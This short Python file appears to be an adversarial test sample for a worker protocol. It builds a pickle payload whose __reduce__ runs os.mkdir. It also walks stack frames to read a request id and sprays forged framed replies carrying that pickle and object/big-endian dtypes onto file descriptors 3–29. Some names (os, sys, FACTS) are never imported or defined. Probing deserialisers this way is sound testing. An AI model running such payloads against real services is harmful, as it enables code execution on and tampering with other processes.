# Sends pickles, arrays of objects and big-endian shapes in frames of its own.
# where: relu_backward
# broken: relu_backward
# status: crashed

import json
import pickle
import struct


class Bomb:
    def __reduce__(self):
        return os.mkdir, (f"/tmp/{FACTS['loot']}-pickle",)


def strike():
    body = pickle.dumps(Bomb())
    frame = sys._getframe()
    while "header" not in frame.f_locals:
        frame = frame.f_back
    number = frame.f_locals["header"]["id"]
    for dtype in ("|O", "O", ">f8", "<M8[ns]", "|V8"):
        row = {"ok": {"a": [dtype, [1]]}}
        text = json.dumps({"id": number, "replies": [row]}).encode()
        for descriptor in range(3, 30):
            try:
                os.write(
                    descriptor, struct.pack("<4sIQ", b"GRW1", len(text), len(body)) + text + body
                )
            except OSError:
                pass
